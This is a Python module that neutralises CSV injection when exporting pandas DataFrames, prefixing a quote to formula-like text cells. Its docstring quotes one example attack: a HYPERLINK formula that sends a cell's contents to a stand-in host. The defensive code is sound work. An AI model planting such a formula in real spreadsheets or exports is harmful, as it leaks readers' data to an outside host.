"""CSV files for download, safe to open in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read
as a formula by Excel, LibreOffice and Google Sheets; a crafted source title such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would then run in the reader's
spreadsheet (CSV injection). Following OWASP's rule, such a cell in a **text** column gets
a single quote in front (``'=HYPERLINK(…)``), which spreadsheets show as text. Numeric,
boolean and date columns are written as they are: ``-5`` in a number column stays ``-5``.

Output is deterministic: rows in the order given, columns as given, no index, ``\\n`` line
ends, UTF-8 without a byte-order mark.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralize", "safe_csv_text", "to_safe_csv"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP, CSV Injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralize(cell: object) -> object:
    """``cell`` with a ``'`` in front when it is text starting with a formula character;
    anything else is returned unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES):
        return "'" + cell
    return cell


def _is_text(series: pd.Series) -> bool:
    dtype = series.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        return not (
            pd.api.types.is_numeric_dtype(dtype.categories.dtype) or pd.api.types.is_bool_dtype(dtype.categories.dtype)
        )
    return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised."""
    out = frame.copy()
    for column in out.columns:
        if _is_text(out[column]):
            values = out[column].astype(object) if isinstance(out[column].dtype, pd.CategoricalDtype) else out[column]
            out[column] = values.map(neutralize, na_action="ignore").astype(object)
    out.columns = [neutralize(str(c)) for c in out.columns]
    return out


def safe_csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text with formula-like text cells neutralised (see the module
    docstring): rows in the order given, no index, ``\\n`` line ends.

    Cells are formatted by pandas (floats as their shortest repr, dates ISO, missing
    values empty) and quoted when they hold ``,``, ``"``, ``\\r`` or ``\\n``. (Python's
    csv writer, which ``DataFrame.to_csv`` uses, leaves a lone ``\\r`` unquoted when the
    line terminator is ``\\n``, and a reader then splits the record there; so pandas
    formats with ``\\r\\n`` line ends, which quotes both, and the rows are re-joined here.)
    """
    text = safe_frame(frame).to_csv(index=False, lineterminator="\r\n")
    lines = []
    for row in csv.reader(io.StringIO(text, newline="")):
        lines.append('""' if row == [""] else ",".join(_quoted(cell) for cell in row))
    return "".join(line + "\n" for line in lines)


_NEEDS_QUOTES = re.compile(r'[,"\r\n]')


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if _NEEDS_QUOTES.search(cell) else cell


def to_safe_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write :func:`safe_csv_text` of ``frame`` to ``path`` as UTF-8 (no byte-order mark,
    ``\n`` line ends on every platform) and return the path."""
    path = Path(path)
    path.write_bytes(safe_csv_text(frame).encode("utf-8"))
    return path
